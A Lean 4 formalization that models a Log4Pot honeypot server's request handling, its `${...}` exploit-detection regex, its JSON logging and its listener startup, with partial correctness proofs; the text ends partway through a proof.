import Mathlib

/-!
Verification of the Log4Pot honeypot server (`dpot.py`) against its
natural-language specification.

The development shallowly embeds the source program:
* the compiled regular expression `re_exploit = re.compile("\${.*}")` and its
  `search` method (`reSearch`),
* the `dict(...)` conversion of an `email.message.Message` header multimap
  (`pyDict`, `msgGet`),
* Python's `int(...)` parser and `bytes.decode("utf-8")`,
* the request handler `Log4PotHTTPRequestHandler.do` (`handler_do`), emitting an
  ordered trace of response actions and log calls,
* the `Logger` dataclass with its JSON-lines serialization (`Logger.log`) and the
  optional Azure append-blob mirror,
* the per-port server thread startup (`mkThreads` / `runThread`).

All strings are modelled as `List Char` (`Str`).
-/

namespace Log4Pot

abbrev Str := List Char

/-! ### The exploit regular expression

Source: `re_exploit = re.compile("\${.*}")`.  The pattern is a literal `$`,
a literal `{`, a greedy `.*` (any character except newline), and a literal `}`.
`search` returns the leftmost match; greediness makes the match extend to the
last `}` reachable without crossing a newline. -/

/-- Model of matching the `.*}` tail of the pattern against `cs`:
`.*` greedily consumes non-newline characters and backtracks to the last `}`.
Returns the consumed characters (ending with `}`), or `none`. -/
def greedyTail (cs : Str) : Option Str :=
  match (cs.takeWhile (fun c => c != '\n')).reverse.dropWhile (fun c => c != '}') with
  | [] => none
  | r => some r.reverse

/-- Attempt an anchored match of `\$\{.*\}` at the start of the string. -/
def tryAt : Str → Option Str
  | '$' :: '{' :: rest => (greedyTail rest).map (fun t => '$' :: '{' :: t)
  | _ => none

/-- Model of `re_exploit.search(content)`, returning `m.group(0)`:
the match at the leftmost position where the pattern matches. -/
def reSearch : Str → Option Str
  | [] => none
  | c :: cs =>
    match tryAt (c :: cs) with
    | some m => some m
    | none => reSearch cs

/-- `true` when no opening marker `${` in the string is followed by a
closing `}` (in particular after the first `${` no `}` occurs at all). -/
def noCloseAfterOpen : Str → Bool
  | '$' :: '{' :: rest => !(rest.contains '}')
  | _ :: rest => noCloseAfterOpen rest
  | [] => true

/-- Decidable check that `pat` is a prefix of `s`. -/
def startsWith : Str → Str → Bool
  | _, [] => true
  | [], _ :: _ => false
  | c :: s, d :: t => c == d && startsWith s t

/-- Decidable check that `pat` occurs as a contiguous segment of `s`. -/
def hasSeg : Str → Str → Bool
  | s, pat =>
    startsWith s pat ||
      match s with
      | [] => false
      | _ :: s' => hasSeg s' pat

/-- `t` is a well-formed exploit span of `s` in the sense of the spec: it starts
with the opening marker `${`, ends with the closing marker `}`, and occurs
contiguously in `s`. -/
def isSpanB (s t : Str) : Bool :=
  (match t with
   | '$' :: '{' :: rest => rest.reverse.head? == some '}'
   | _ => false) && hasSeg s t

/-! ### Header handling

`self.headers` is an `email.message.Message`: an ordered multimap of header
name/value pairs.  `dict(m)` iterates `m.keys()` (all names, with duplicates,
in source order) and assigns `d[k] = m[k]`, where `Message.__getitem__` returns
the value of the *first* header whose name matches case-insensitively. -/

def lowerStr (s : Str) : Str := s.map Char.toLower

/-- Model of `Message.__getitem__` / `Message.get`: value of the first header
whose name matches case-insensitively, if any. -/
def msgGet (hs : List (Str × Str)) (name : Str) : Option Str :=
  (hs.find? (fun p => lowerStr p.1 == lowerStr name)).map (fun p => p.2)

/-- Python dict item assignment `d[k] = v`: overwrite in place if the key is
present (exact match), otherwise append. -/
def dictAssign (d : List (Str × Str)) (k v : Str) : List (Str × Str) :=
  if d.any (fun p => p.1 == k) then
    d.map (fun p => if p.1 == k then (k, v) else p)
  else
    d ++ [(k, v)]

/-- Model of `dict(self.headers)`: fold `d[k] = m[k]` over all header names in
source order (`m` is the full message, so the assigned value is always the
first case-insensitive match in the whole header list). -/
def pyDict (hs : List (Str × Str)) : List (Str × Str) :=
  hs.foldl (fun d kv => dictAssign d kv.1 ((msgGet hs kv.1).getD [])) []

/-- First-occurrence deduplication of a key list, parameterized by the keys
already seen (used to characterize the dict conversion). -/
def dedupKeysAux (seen : List Str) : List Str → List Str
  | [] => []
  | k :: ks =>
    if seen.any (fun s => s == k) then dedupKeysAux seen ks
    else k :: dedupKeysAux (k :: seen) ks

/-! ### Python `int(...)` and `bytes.decode("utf-8")` -/

def isPyIntSpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c.toNat == 11 || c.toNat == 12

/-- Digit run of a Python integer literal: digits with single underscores
allowed between digits. Returns the value, or `none` if malformed. -/
def pyDigitsGo (a : Nat) : Str → Option Nat
  | [] => some a
  | '_' :: c :: rest =>
    if c.isDigit then pyDigitsGo (a * 10 + (c.toNat - 48)) rest else none
  | ['_'] => none
  | c :: rest =>
    if c.isDigit then pyDigitsGo (a * 10 + (c.toNat - 48)) rest else none

def pyDigits : Str → Option Nat
  | [] => none
  | c :: rest => if c.isDigit then pyDigitsGo (c.toNat - 48) rest else none

/-- Model of Python `int(s)`: strip whitespace, optional sign, digit run with
underscores.  `none` models a raised `ValueError`. -/
def pyInt (s : Str) : Option Int :=
  let t := ((s.dropWhile isPyIntSpace).reverse.dropWhile isPyIntSpace).reverse
  match t with
  | '+' :: ds => (pyDigits ds).map Int.ofNat
  | '-' :: ds => (pyDigits ds).map (fun n => -(Int.ofNat n))
  | ds => (pyDigits ds).map Int.ofNat

/-- Model of `self.rfile.read(n)` over the connection's available body bytes:
a negative count reads everything, otherwise `n` bytes are read. -/
def pyRead (rfile : List Nat) (n : Int) : List Nat :=
  if n < 0 then rfile else rfile.take n.toNat

/-- Model of `bytes.decode("utf-8")`: strict UTF-8 decoding (rejecting
continuation-byte leads, overlong forms, surrogates and values above
U+10FFFF).  `none` models a raised `UnicodeDecodeError`. -/
def decodeUtf8 : List Nat → Option Str
  | [] => some []
  | b :: rest =>
    if b < 128 then
      (decodeUtf8 rest).map (fun s => Char.ofNat b :: s)
    else if b < 194 then none
    else if b < 224 then
      match rest with
      | b1 :: rest' =>
        if 128 ≤ b1 ∧ b1 < 192 then
          (decodeUtf8 rest').map (fun s => Char.ofNat ((b - 192) * 64 + (b1 - 128)) :: s)
        else none
      | [] => none
    else if b < 240 then
      match rest with
      | b1 :: b2 :: rest' =>
        if (if b == 224 then 160 ≤ b1 ∧ b1 < 192
            else if b == 237 then 128 ≤ b1 ∧ b1 < 160
            else 128 ≤ b1 ∧ b1 < 192) ∧ 128 ≤ b2 ∧ b2 < 192 then
          (decodeUtf8 rest').map
            (fun s => Char.ofNat ((b - 224) * 4096 + (b1 - 128) * 64 + (b2 - 128)) :: s)
        else none
      | _ => none
    else if b < 245 then
      match rest with
      | b1 :: b2 :: b3 :: rest' =>
        if (if b == 240 then 144 ≤ b1 ∧ b1 < 192
            else if b == 244 then 128 ≤ b1 ∧ b1 < 144
            else 128 ≤ b1 ∧ b1 < 192) ∧ 128 ≤ b2 ∧ b2 < 192 ∧ 128 ≤ b3 ∧ b3 < 192 then
          (decodeUtf8 rest').map
            (fun s =>
              Char.ofNat ((b - 240) * 262144 + (b1 - 128) * 4096 + (b2 - 128) * 64 + (b3 - 128)) :: s)
        else none
      | _ => none
    else none

/-! ### JSON serialization (`json.dumps(d) + "\n"`)

The dictionaries passed to `json.dumps` by `Logger.log` hold only strings,
non-negative integers (ports) and string-to-string dicts (the headers), so the
value type is non-recursive.  `json.dumps` is used with its defaults:
separators `", "` and `": "`, and `ensure_ascii=True` (every character below
`0x20` or above `0x7e` is `\uXXXX`-escaped, with surrogate pairs above
`0xffff`; `"` , `\` and the control characters `\n \r \t \b \f` use their
short escapes). -/

inductive JValue where
  | vs (s : Str)
  | vn (n : Nat)
  | vd (entries : List (Str × Str))
deriving DecidableEq

/-- Lowercase hexadecimal digit. -/
def hexChar (d : Nat) : Char := Char.ofNat (if d < 10 then 48 + d else 87 + d)

/-- Four lowercase hex digits of `n < 0x10000`. -/
def toHex4 (n : Nat) : Str :=
  [hexChar (n / 4096 % 16), hexChar (n / 256 % 16), hexChar (n / 16 % 16), hexChar (n % 16)]

/-- JSON escape of one character, as emitted by `json.dumps` with
`ensure_ascii=True`. -/
def escChar (c : Char) : Str :=
  if c = '"' then ['\\', '"']
  else if c = '\\' then ['\\', '\\']
  else if c = '\n' then ['\\', 'n']
  else if c = '\r' then ['\\', 'r']
  else if c = '\t' then ['\\', 't']
  else if c.toNat = 8 then ['\\', 'b']
  else if c.toNat = 12 then ['\\', 'f']
  else if c.toNat < 32 ∨ 126 < c.toNat then
    if c.toNat < 65536 then '\\' :: 'u' :: toHex4 c.toNat
    else
      ('\\' :: 'u' :: toHex4 (55296 + (c.toNat - 65536) / 1024)) ++
        ('\\' :: 'u' :: toHex4 (56320 + (c.toNat - 65536) % 1024))
  else [c]

def escapeStr : Str → Str
  | [] => []
  | c :: s => escChar c ++ escapeStr s

/-- Serialized JSON string: `"` + escaped characters + `"`. -/
def serStr (s : Str) : Str := '"' :: escapeStr s ++ ['"']

def digitChar (d : Nat) : Char := Char.ofNat (48 + d)

/-- Fuel-driven digit expansion; with fuel at least `n` it computes the
decimal digits of `n`, most significant first (empty for `0`). -/
def natSerAux : Nat → Nat → Str
  | _, 0 => []
  | 0, _ + 1 => []
  | fuel + 1, n + 1 => natSerAux fuel ((n + 1) / 10) ++ [digitChar ((n + 1) % 10)]

/-- Decimal digits of `n`, most significant first, empty for `0`. -/
def natSerCore (n : Nat) : Str := natSerAux n n

/-- Decimal representation of `n`, as emitted by `json.dumps` for a
non-negative `int`. -/
def natSer (n : Nat) : Str := if n = 0 then ['0'] else natSerCore n

/-- Serialized string-to-string dict entry: `"k": "v"`. -/
def serStrEntry (e : Str × Str) : Str := serStr e.1 ++ ':' :: ' ' :: serStr e.2

/-- Remaining entries of a dict body after the first: `, "k": "v"` repeated,
then the closing brace. -/
def serStrTail : List (Str × Str) → Str
  | [] => ['}']
  | e :: es => ',' :: ' ' :: serStrEntry e ++ serStrTail es

/-- Serialized string-to-string dict, as `json.dumps` renders the `headers`
value. -/
def serStrDict : List (Str × Str) → Str
  | [] => ['{', '}']
  | e :: es => '{' :: serStrEntry e ++ serStrTail es

def serValue : JValue → Str
  | .vs s => serStr s
  | .vn n => natSer n
  | .vd es => serStrDict es

def serField (f : Str × JValue) : Str := serStr f.1 ++ ':' :: ' ' :: serValue f.2

def serFieldsTail : List (Str × JValue) → Str
  | [] => ['}']
  | f :: fs => ',' :: ' ' :: serField f ++ serFieldsTail fs

/-- Model of `json.dumps(d)` for the record dictionaries built by
`Logger.log` (insertion-ordered fields, default separators). -/
def serRecord : List (Str × JValue) → Str
  | [] => ['{', '}']
  | f :: fs => '{' :: serField f ++ serFieldsTail fs

/-! ### JSON parsing

A parser for the grammar emitted by `serRecord`, used to state the round-trip
property of the local log lines.  All recursive parsers consume fuel. -/

def hexVal (c : Char) : Option Nat :=
  if 48 ≤ c.toNat ∧ c.toNat ≤ 57 then some (c.toNat - 48)
  else if 97 ≤ c.toNat ∧ c.toNat ≤ 102 then some (c.toNat - 87)
  else none

def readHex4 : Str → Option (Nat × Str)
  | a :: b :: c :: d :: rest =>
    match hexVal a, hexVal b, hexVal c, hexVal d with
    | some x, some y, some z, some w => some (x * 4096 + y * 256 + z * 16 + w, rest)
    | _, _, _, _ => none
  | _ => none

/-- Combine a high surrogate `n` with a low-surrogate escape value `m`. -/
def parseEscPair (n m : Nat) (r3 : Str) : Option (Char × Str) :=
  if 56320 ≤ m ∧ m < 57344 then
    some (Char.ofNat (65536 + (n - 55296) * 1024 + (m - 56320)), r3)
  else none

/-- Read the `\uXXXX` escape expected to carry the low surrogate. -/
def parseEscLow (n : Nat) (r2 : Str) : Option (Char × Str) :=
  match readHex4 r2 with
  | none => none
  | some (m, r3) => parseEscPair n m r3

/-- Interpret the value of a `\uXXXX` escape: a high surrogate expects a
second escape to pair with, a lone low surrogate is invalid, anything else is
the character itself. -/
def parseEscU (n : Nat) (r1 : Str) : Option (Char × Str) :=
  if 55296 ≤ n ∧ n < 56320 then
    match r1 with
    | '\\' :: 'u' :: r2 => parseEscLow n r2
    | _ => none
  else if 56320 ≤ n ∧ n < 57344 then none
  else some (Char.ofNat n, r1)

/-- Parse the body of a JSON escape sequence (after the backslash), including
surrogate-pair recombination. -/
def parseEsc : Str → Option (Char × Str)
  | '"' :: r => some ('"', r)
  | '\\' :: r => some ('\\', r)
  | '/' :: r => some ('/', r)
  | 'n' :: r => some ('\n', r)
  | 'r' :: r => some ('\r', r)
  | 't' :: r => some ('\t', r)
  | 'b' :: r => some (Char.ofNat 8, r)
  | 'f' :: r => some (Char.ofNat 12, r)
  | 'u' :: r =>
    match readHex4 r with
    | none => none
    | some (n, r1) => parseEscU n r1
  | _ => none

/-- Parse a JSON string body (the opening quote already consumed) up to the
closing quote. -/
def parseJString : Nat → Str → Option (Str × Str)
  | 0, _ => none
  | _ + 1, [] => none
  | fuel + 1, c :: rest =>
    if c = '"' then some ([], rest)
    else if c = '\\' then
      match parseEsc rest with
      | none => none
      | some (c1, r1) =>
        match parseJString fuel r1 with
        | none => none
        | some (s, r2) => some (c1 :: s, r2)
    else
      match parseJString fuel rest with
      | none => none
      | some (s, r2) => some (c :: s, r2)

def parseDigitsAux (a : Nat) : Str → Nat × Str
  | [] => (a, [])
  | c :: rest =>
    if c.isDigit then parseDigitsAux (a * 10 + (c.toNat - 48)) rest else (a, c :: rest)

def parseJNat : Str → Option (Nat × Str)
  | [] => none
  | c :: rest => if c.isDigit then some (parseDigitsAux (c.toNat - 48) rest) else none

def headIsDigit : Str → Bool
  | [] => false
  | c :: _ => c.isDigit

/-- Entries of a string-to-string dict after the first one. -/
def parseStrDictRest : Nat → Str → Option (List (Str × Str) × Str)
  | 0, _ => none
  | _ + 1, '}' :: rest => some ([], rest)
  | fuel + 1, ',' :: ' ' :: '"' :: rest =>
    match parseJString fuel rest with
    | none => none
    | some (k, r1) =>
      match r1 with
      | ':' :: ' ' :: '"' :: r2 =>
        match parseJString fuel r2 with
        | none => none
        | some (v, r3) =>
          match parseStrDictRest fuel r3 with
          | none => none
          | some (es, r4) => some ((k, v) :: es, r4)
      | _ => none
  | _ + 1, _ => none

def parseStrDict (fuel : Nat) : Str → Option (List (Str × Str) × Str)
  | '{' :: '}' :: rest => some ([], rest)
  | '{' :: '"' :: rest =>
    match parseJString fuel rest with
    | none => none
    | some (k, r1) =>
      match r1 with
      | ':' :: ' ' :: '"' :: r2 =>
        match parseJString fuel r2 with
        | none => none
        | some (v, r3) =>
          match parseStrDictRest fuel r3 with
          | none => none
          | some (es, r4) => some ((k, v) :: es, r4)
      | _ => none
  | _ => none

def parseValueCons (fuel : Nat) (c : Char) (rest : Str) : Option (JValue × Str) :=
  if c = '"' then
    match parseJString fuel rest with
    | none => none
    | some (s, r) => some (.vs s, r)
  else if c = '{' then
    match parseStrDict fuel (c :: rest) with
    | none => none
    | some (es, r) => some (.vd es, r)
  else if c.isDigit then
    match parseJNat (c :: rest) with
    | none => none
    | some (n, r) => some (.vn n, r)
  else none

def parseValue (fuel : Nat) : Str → Option (JValue × Str)
  | [] => none
  | c :: rest => parseValueCons fuel c rest

/-- Fields of a record object after the first one. -/
def parseFieldsRest : Nat → Str → Option (List (Str × JValue) × Str)
  | 0, _ => none
  | _ + 1, '}' :: rest => some ([], rest)
  | fuel + 1, ',' :: ' ' :: '"' :: rest =>
    match parseJString fuel rest with
    | none => none
    | some (k, r1) =>
      match r1 with
      | ':' :: ' ' :: r2 =>
        match parseValue fuel r2 with
        | none => none
        | some (v, r3) =>
          match parseFieldsRest fuel r3 with
          | none => none
          | some (fs, r4) => some ((k, v) :: fs, r4)
      | _ => none
  | _ + 1, _ => none

def parseObj (fuel : Nat) : Str → Option (List (Str × JValue) × Str)
  | '{' :: '}' :: rest => some ([], rest)
  | '{' :: '"' :: rest =>
    match parseJString fuel rest with
    | none => none
    | some (k, r1) =>
      match r1 with
      | ':' :: ' ' :: r2 =>
        match parseValue fuel r2 with
        | none => none
        | some (v, r3) =>
          match parseFieldsRest fuel r3 with
          | none => none
          | some (fs, r4) => some ((k, v) :: fs, r4)
      | _ => none
  | _ => none

/-- Parse one serialized record back into its field list. -/
def parseRecord (s : Str) : Option (List (Str × JValue)) :=
  match parseObj (s.length + 1) s with
  | some (r, []) => some r
  | _ => none

/-! ### Timestamps

`datetime.utcnow().isoformat()` renders `YYYY-MM-DDTHH:MM:SS.ffffff`, with the
fractional part omitted when the microsecond field is zero. -/

structure DateTime where
  year : Nat
  month : Nat
  day : Nat
  hour : Nat
  minute : Nat
  second : Nat
  microsecond : Nat
deriving DecidableEq

/-- Left-pad the decimal representation of `n` with zeros to width `w`. -/
def padNum (w n : Nat) : Str :=
  List.replicate (w - (natSer n).length) '0' ++ natSer n

/-- Model of `datetime.isoformat()`. -/
def isoformat (t : DateTime) : Str :=
  padNum 4 t.year ++ '-' :: padNum 2 t.month ++ '-' :: padNum 2 t.day ++
    'T' :: padNum 2 t.hour ++ ':' :: padNum 2 t.minute ++ ':' :: padNum 2 t.second ++
    (if t.microsecond = 0 then [] else '.' :: padNum 6 t.microsecond)

/-! ### The `Logger` dataclass

`Logger.log` builds the record dict, serializes it, writes and flushes it to
the local log file, and then — with no exception handling — appends the same
line to the Azure blob when one is configured.  A failing `append_block`
therefore propagates to the caller of `log`. -/

/-- State of the optional remote blob client: not configured, configured and
reachable, or configured but failing on append. -/
inductive BlobStatus where
  | absent
  | ok
  | failing
deriving DecidableEq

structure Logger where
  /-- Content written (and flushed) to the local log file. -/
  f : Str
  /-- Blocks appended so far to the remote append blob. -/
  blobBlocks : List Str
  blob : BlobStatus
deriving DecidableEq

/-- The record dict built by `Logger.log`:
`{"type": logtype, "timestamp": ..., **kwargs}`.  The `message` parameter of
`log` is not part of the dict. -/
def recordOf (logtype : Str) (now : DateTime) (kwargs : List (Str × JValue)) :
    List (Str × JValue) :=
  ("type".toList, .vs logtype) :: ("timestamp".toList, .vs (isoformat now)) :: kwargs

/-- Model of `Logger.log`.  Returns the new logger state and whether an
exception was raised to the caller (the un-caught `append_block` failure).
The local write and flush happen before the blob append. -/
def Logger.log (l : Logger) (now : DateTime) (logtype message : Str)
    (kwargs : List (Str × JValue)) : Logger × Bool :=
  let _ := message
  let j := serRecord (recordOf logtype now kwargs) ++ ['\n']
  let l' : Logger := { l with f := l.f ++ j }
  match l'.blob with
  | .absent => (l', false)
  | .ok => ({ l' with blobBlocks := l'.blobBlocks ++ [j] }, false)
  | .failing => (l', true)

/-- The keyword arguments of `Logger.log_request`, in call order. -/
def requestKwargs (server_port : Nat) (client : Str) (port : Nat) (request : Str)
    (headers : List (Str × Str)) (uuid : Str) : List (Str × JValue) :=
  [("correlation_id".toList, .vs uuid), ("server_port".toList, .vn server_port),
   ("client".toList, .vs client), ("port".toList, .vn port),
   ("request".toList, .vs request), ("headers".toList, .vd (pyDict headers))]

def Logger.log_request (l : Logger) (now : DateTime) (server_port : Nat) (client : Str)
    (port : Nat) (request : Str) (headers : List (Str × Str)) (uuid : Str) :
    Logger × Bool :=
  Logger.log l now "request".toList "A request was received".toList
    (requestKwargs server_port client port request headers uuid)

def Logger.log_exploit (l : Logger) (now : DateTime) (location payload uuid client : Str) :
    Logger × Bool :=
  Logger.log l now "exploit".toList "Exploit detected".toList
    [("correlation_id".toList, .vs uuid), ("location".toList, .vs location),
     ("payload".toList, .vs payload), ("client".toList, .vs client)]

def Logger.log_exception (l : Logger) (now : DateTime) (e : Str) : Logger × Bool :=
  Logger.log l now "exception".toList "Exception occurred".toList
    [("exception".toList, .vs e)]

/-! ### The request handler `Log4PotHTTPRequestHandler.do`

`do` sends the fixed response (status line, `Content-Type` header, body with
the fresh correlation id), then logs the capture event (reading and decoding
the body first when a `Content-Length` key is present in `dict(self.headers)`),
then scans the request line and every header value for the exploit pattern.
Un-caught Python exceptions (`int` on a malformed length, `decode` on invalid
UTF-8) abort the handler after the response was already sent. -/

inductive LogCall where
  | request (server_port : Nat) (client : Str) (port : Nat) (request : Str)
      (headers : List (Str × Str)) (uuid : Str)
  | requestBody (server_port : Nat) (client : Str) (port : Nat) (request : Str)
      (headers : List (Str × Str)) (uuid : Str) (body : Str)
  | exploit (location : Str) (payload : Str) (uuid : Str) (client : Str)
  | exception (e : Str)
deriving DecidableEq

/-- One observable step of the handler: a piece of the HTTP response, or a
logging call. -/
inductive Action where
  | status (code : Nat) (version : Str)
  | header (name value : Str)
  | endHeaders
  | body (content : Str)
  | log (call : LogCall)
deriving DecidableEq

inductive PyError where
  | valueError
  | typeError
  | unicodeDecodeError
deriving DecidableEq

/-- Stand-in for the default `BaseHTTPRequestHandler.version_string()`. -/
def defaultServerVersion : Str := "BaseHTTP/0.6 Python/3".toList

/-- The fixed response body
`f'\x7b\x7b "status": "ok", "id": "\x7bself.uuid\x7d" \x7d\x7d'`. -/
def respBody (uuid : Str) : Str :=
  "\x7b \"status\": \"ok\", \"id\": \"".toList ++ uuid ++ "\" \x7d".toList

/-- The four response actions emitted by `do` before any logging:
`send_response(200)`, `send_header("Content-Type", "text/json")`,
`end_headers()`, `wfile.write(...)`. -/
def respActions (server_header : Option Str) (uuid : Str) : List Action :=
  [.status 200 (server_header.getD defaultServerVersion),
   .header "Content-Type".toList "text/json".toList,
   .endHeaders,
   .body (respBody uuid)]

structure Request where
  requestline : Str
  headers : List (Str × Str)
  /-- Body bytes available on the connection (`self.rfile`). -/
  rfile : List Nat
deriving DecidableEq

def clKey : Str := "Content-Length".toList

/-- Model of `find_exploit(location, content)`: one exploit log call when the
regex search matches, none otherwise. -/
def find_exploit (uuid clientIp location content : Str) : List LogCall :=
  match reSearch content with
  | some m => [.exploit location m uuid clientIp]
  | none => []

def scanHeaders (uuid clientIp : Str) : List (Str × Str) → List LogCall
  | [] => []
  | (h, v) :: rest =>
    find_exploit uuid clientIp ("header-".toList ++ h) v ++ scanHeaders uuid clientIp rest

/-- The exploit scan of `do`: the request line tagged `request`, then every
header value (in source order, duplicates included) tagged `header-<name>`. -/
def scanAll (uuid clientIp requestline : Str) (headers : List (Str × Str)) : List LogCall :=
  find_exploit uuid clientIp "request".toList requestline ++ scanHeaders uuid clientIp headers

/-- The inspectable surfaces of a request, with their location tags: the
request line tagged `request`, and each header value (source order, duplicates
included) tagged `header-<name>`.  The body is not among them. -/
def surfaces (requestline : Str) (headers : List (Str × Str)) : List (Str × Str) :=
  ("request".toList, requestline) ::
    headers.map (fun hv => ("header-".toList ++ hv.1, hv.2))

/-- Model of `Log4PotHTTPRequestHandler.do`: the ordered trace of observable
actions, and the Python exception (if any) that aborted the handler. -/
def handler_do (server_header : Option Str) (serverPort : Nat) (clientIp : Str)
    (clientPort : Nat) (uuid : Str) (req : Request) : List Action × Option PyError :=
  let resp := respActions server_header uuid
  if (pyDict req.headers).any (fun p => p.1 == clKey) then
    match msgGet req.headers clKey with
    | none => (resp, some .typeError)
    | some v =>
      match pyInt v with
      | none => (resp, some .valueError)
      | some n =>
        match decodeUtf8 (pyRead req.rfile n) with
        | none => (resp, some .unicodeDecodeError)
        | some content =>
          (resp ++ (LogCall.requestBody serverPort clientIp clientPort req.requestline
                req.headers uuid content
              :: scanAll uuid clientIp req.requestline req.headers).map .log,
            none)
  else
    (resp ++ (LogCall.request serverPort clientIp clientPort req.requestline
          req.headers uuid
        :: scanAll uuid clientIp req.requestline req.headers).map .log,
      none)

/-- The log calls among an action trace. -/
def logCalls (acts : List Action) : List LogCall :=
  acts.filterMap (fun a => match a with | .log c => some c | _ => none)

def isExploitCall : LogCall → Bool
  | .exploit _ _ _ _ => true
  | _ => false

def isRequestCall : LogCall → Bool
  | .request _ _ _ _ _ _ => true
  | .requestBody _ _ _ _ _ _ _ => true
  | _ => false

def uuidOf : LogCall → Option Str
  | .request _ _ _ _ _ u => some u
  | .requestBody _ _ _ _ _ u _ => some u
  | .exploit _ _ u _ => some u
  | .exception _ => none

/-! ### Listener startup (`Log4PotServerThread` and the `threads` list)

`Log4PotServerThread.__init__` constructs `Log4PotHTTPServer`, which binds the
socket — in the main thread, inside the `threads = [...]` comprehension,
before any thread is started.  A bind failure therefore raises out of the
comprehension and aborts the whole process.  `run()` wraps only
`serve_forever()` in `try/except`, logging an `exception` event when serving
raises. -/

inductive ServeOutcome where
  | runsForever
  | interrupted
  | raises (e : Str)
deriving DecidableEq

/-- Environment for one configured port: whether the bind succeeds, and what
`serve_forever` does afterwards. -/
structure PortSpec where
  port : Nat
  bindOk : Bool
  serve : ServeOutcome
deriving DecidableEq

structure ServerThread where
  port : Nat
  serve : ServeOutcome
deriving DecidableEq

/-- Model of `Log4PotServerThread.__init__`: constructing the thread binds the
server socket; a bind failure raises `OSError`. -/
def mkServerThread (sp : PortSpec) : Except Str ServerThread :=
  if sp.bindOk then .ok ⟨sp.port, sp.serve⟩ else .error "OSError: bind".toList

/-- Model of `threads = [Log4PotServerThread(logger, port, ...) for port in args.port]`:
the comprehension constructs the threads in order and the first raised
exception aborts the whole process. -/
def mkThreads : List PortSpec → Except Str (List ServerThread)
  | [] => .ok []
  | sp :: rest =>
    match mkServerThread sp with
    | .error e => .error e
    | .ok t =>
      match mkThreads rest with
      | .error e => .error e
      | .ok ts => .ok (t :: ts)

/-- Model of `Log4PotServerThread.run`: exceptions from `serve_forever` are
caught and logged as an `exception` event; `KeyboardInterrupt` is swallowed. -/
def runThread (t : ServerThread) : List LogCall :=
  match t.serve with
  | .runsForever => []
  | .interrupted => []
  | .raises e => [.exception e]

/-- Whole-process startup: construct all threads, then run each listener
independently, collecting the log calls each one emits. -/
def startProcess (specs : List PortSpec) : Except Str (List (List LogCall)) :=
  match mkThreads specs with
  | .error e => .error e
  | .ok ts => .ok (ts.map runThread)

/-! ### Properties of the regex model -/

theorem dropWhile_head?_not {α : Type} (p : α → Bool) (l : List α) (a : α)
    (h : (l.dropWhile p).head? = some a) : p a = false := by
  induction l with
  | nil => simp at h
  | cons c l' ih =>
    by_cases hc : p c
    · rw [List.dropWhile_cons_of_pos hc] at h
      exact ih h
    · rw [List.dropWhile_cons_of_neg hc] at h
      simp at h
      rw [← h]
      simpa using hc

theorem greedyTail_eq (cs t : Str) (h : greedyTail cs = some t) :
    ∃ suf, cs.takeWhile (fun c => c != '\n') = t ++ suf ∧
      (∀ c ∈ suf, c ≠ '}') ∧ ∃ mid, t = mid ++ ['}'] := by
  unfold greedyTail at h
  rcases hr : (cs.takeWhile (fun c => c != '\n')).reverse.dropWhile (fun c => c != '}')
    with _ | ⟨a, r'⟩
  · rw [hr] at h; simp at h
  · rw [hr] at h
    simp at h
    subst h
    have ha : (fun c => c != '}') a = false :=
      dropWhile_head?_not _ _ a (by rw [hr]; rfl)
    simp at ha
    refine ⟨((cs.takeWhile (fun c => c != '\n')).reverse.takeWhile (fun c => c != '}')).reverse,
      ?_, ?_, ?_⟩
    · have hsplit :
          (cs.takeWhile (fun c => c != '\n')).reverse.takeWhile (fun c => c != '}') ++
            (cs.takeWhile (fun c => c != '\n')).reverse.dropWhile (fun c => c != '}') =
            (cs.takeWhile (fun c => c != '\n')).reverse :=
        List.takeWhile_append_dropWhile _ _
      rw [hr] at hsplit
      have hfull : cs.takeWhile (fun c => c != '\n') =
          (a :: r').reverse ++
            ((cs.takeWhile (fun c => c != '\n')).reverse.takeWhile (fun c => c != '}')).reverse := by
        conv_lhs => rw [← List.reverse_reverse (cs.takeWhile (fun c => c != '\n')), ← hsplit]
        rw [List.reverse_append]
      simpa using hfull
    · intro c hc
      have hmem : c ∈ (cs.takeWhile (fun c => c != '\n')).reverse.takeWhile (fun c => c != '}') := by
        simpa using hc
      have := List.mem_takeWhile_imp hmem
      simpa using this
    · exact ⟨r'.reverse, by simp [ha]⟩

theorem greedyTail_isSome (cs : Str) (hmem : ('}' : Char) ∈ cs)
    (hnl : ('\n' : Char) ∉ cs) : ∃ t, greedyTail cs = some t := by
  unfold greedyTail
  have hpre : cs.takeWhile (fun c => c != '\n') = cs := by
    refine List.takeWhile_eq_self_iff.mpr ?_
    intro a ha
    simp
    intro h
    exact hnl (h ▸ ha)
  rw [hpre]
  rcases hr : cs.reverse.dropWhile (fun c => c != '}') with _ | ⟨a, r'⟩
  · exfalso
    have := List.dropWhile_eq_nil_iff.mp hr ('}' : Char) (by simpa using hmem)
    simp at this
  · exact ⟨(a :: r').reverse, rfl⟩

theorem tryAt_some (l m : Str) (h : tryAt l = some m) :
    ∃ rest t, l = '$' :: '{' :: rest ∧ greedyTail rest = some t ∧ m = '$' :: '{' :: t := by
  unfold tryAt at h
  split at h
  · rename_i rest
    rcases hg : greedyTail rest with _ | t
    · rw [hg] at h; simp at h
    · rw [hg] at h
      simp at h
      exact ⟨rest, t, rfl, hg, h.symm⟩
  · simp at h

theorem tryAt_of_shape (rest : Str) (hmem : ('}' : Char) ∈ rest)
    (hnl : ('\n' : Char) ∉ rest) : ∃ m, tryAt ('$' :: '{' :: rest) = some m := by
  obtain ⟨t, ht⟩ := greedyTail_isSome rest hmem hnl
  exact ⟨'$' :: '{' :: t, by rw [tryAt, ht]; rfl⟩

/-- The match returned by the regex search is a contiguous segment of the
scanned string. -/
theorem reSearch_decomp (s m : Str) (h : reSearch s = some m) :
    ∃ p q, s = p ++ m ++ q := by
  induction s using reSearch.induct with
  | case1 => simp [reSearch] at h
  | case2 c cs m' hm =>
    rw [reSearch, hm] at h
    simp at h
    subst h
    obtain ⟨rest, t, hl, hg, hm'⟩ := tryAt_some _ _ hm
    obtain ⟨suf, hsplit, _, _⟩ := greedyTail_eq _ _ hg
    have hrest : rest = t ++ suf ++ rest.dropWhile (fun c => c != '\n') := by
      conv_lhs => rw [← List.takeWhile_append_dropWhile (fun c => c != '\n') rest]
      rw [hsplit]
    refine ⟨[], suf ++ rest.dropWhile (fun c => c != '\n'), ?_⟩
    rw [hl, hm']
    conv_lhs => rw [hrest]
    simp
  | case3 c cs hm ih =>
    rw [reSearch, hm] at h
    obtain ⟨p, q, hpq⟩ := ih h
